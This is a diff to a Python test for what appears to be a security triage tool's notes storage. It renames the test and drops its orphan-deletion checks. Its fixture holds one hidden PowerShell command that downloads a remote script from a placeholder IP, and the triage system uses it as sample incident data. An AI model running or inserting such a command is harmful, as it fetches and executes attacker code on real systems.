@@ -12,7 +12,7 @@ from vyrox.triage.notes.answer import Answer
 LATER = NOW + 100
 
 
-async def test_notes_are_due_taken_finished_read_and_deleted_contract_61(
+async def test_notes_are_due_taken_finished_and_read_contract_61(
     database: Database,
 ) -> None:
     await judged(database, new(0, "powershell -w hidden -c iwr http://192.0.2.7/a.ps1"))
@@ -31,11 +31,7 @@ async def test_notes_are_due_taken_finished_read_and_deleted_contract_61(
     await database.write(rows.finish, claim, "written", answer, 7)
     note = await database.read(rows.read_note, TENANT, 1)
     assert note == rows.Note(LATER, "m", answer, is_current=True)
-    await database.write(rows.delete_orphans, LATER + 2 * rows.DAY_S)
     assert await database.read(_tokens) == [7]
-    await database.write(lambda connection: connection.execute(incidents.delete()))
-    await database.write(rows.delete_orphans, LATER + 2 * rows.DAY_S)
-    assert await database.read(_tokens) == []
 
 
 def _tokens(connection: Connection) -> list[int]:
